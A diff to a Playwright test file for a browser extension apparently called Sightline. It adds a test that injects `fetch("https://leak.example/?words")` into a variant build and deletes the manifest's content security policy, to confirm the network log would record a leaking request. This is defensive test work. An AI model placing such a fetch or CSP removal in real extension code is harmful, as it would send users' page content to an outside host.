@@ -1,8 +1,9 @@
-import { readFileSync } from "node:fs";
+import { readFileSync, writeFileSync } from "node:fs";
 import { expect } from "@playwright/test";
 import { demoPages } from "../../scripts/demo/pages.ts";
 import { filesHolding } from "./profile-scan.ts";
 import { found, openCard, test } from "./sightline.ts";
+import { variantOf } from "./variant.ts";
 
 /** As the worker has it, where the functions below run. */
 declare const chrome: { storage: { local: { get(keys: null): Promise<object>; set(values: object): Promise<void> } } };
@@ -30,6 +31,26 @@ test("no page, no popup and no worker asks the network for anything but the page
   expect(asked.length, "the log shows the pages themselves").toBeGreaterThanOrEqual(demoPages.length);
   expect(asked.filter(({ url }) => !isExpected(url))).toEqual([]);
   expect(sightline.server.asked.filter((url) => !isExpected(url))).toEqual([]);
+});
+
+test("the record of requests would show one that left", async ({ launch }, info) => {
+  const log = info.outputPath("network.json");
+  const leak = "https://leak.example/?words";
+  const extension = variantOf(info.outputPath("variant"), `fetch("${leak}").catch(() => undefined);`);
+  // Our own policy forbids it before it starts; this one is to get as far as the network.
+  const manifest = JSON.parse(readFileSync(`${extension}/manifest.json`, "utf8")) as {
+    content_security_policy?: object;
+  };
+  delete manifest.content_security_policy;
+  writeFileSync(`${extension}/manifest.json`, JSON.stringify(manifest));
+  const sightline = await launch({ extension, switches: [`--log-net-log=${log}`] });
+  await expect.poll(() => sightline.server.asked).toContain(leak);
+  await sightline.browser.context.close();
+  expect(
+    requestsIn(log)
+      .filter((request) => !isOfChromium(request))
+      .map(({ url }) => url),
+  ).toContain(leak);
 });
 
 test("no word of a page or a form is written to the profile", async ({ sightline }) => {
